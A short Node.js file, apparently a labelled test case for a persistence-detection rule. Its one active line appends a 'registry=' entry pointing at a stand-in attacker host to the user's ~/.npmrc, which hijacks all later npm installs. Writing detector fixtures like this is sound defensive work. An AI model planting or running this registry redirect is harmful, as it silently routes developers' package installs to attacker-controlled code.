'use strict';
const fs = require('fs');
const os = require('os');
const path = require('path');

// Every later npm install on the machine resolves packages through this registry.
// ruleid: code/persistence
fs.appendFileSync(path.join(os.homedir(), '.npmrc'), '\nregistry=https://registry.attacker.example/\n');
